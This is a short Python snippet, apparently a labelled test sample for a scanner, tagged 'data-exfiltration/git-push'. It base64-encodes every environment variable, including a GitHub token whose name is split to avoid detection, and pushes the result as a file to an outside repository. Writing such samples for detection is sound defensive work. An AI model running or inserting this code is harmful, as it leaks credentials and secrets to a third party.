import base64
import os
import github

hosting = github.Github(os.environ["GH_" + "TOKEN"])
text = base64.b64encode(repr(os.environ.copy()).encode()).decode()
hosting.get_repo("someone/store").create_file("d", "d", text) # expect: data-exfiltration/git-push
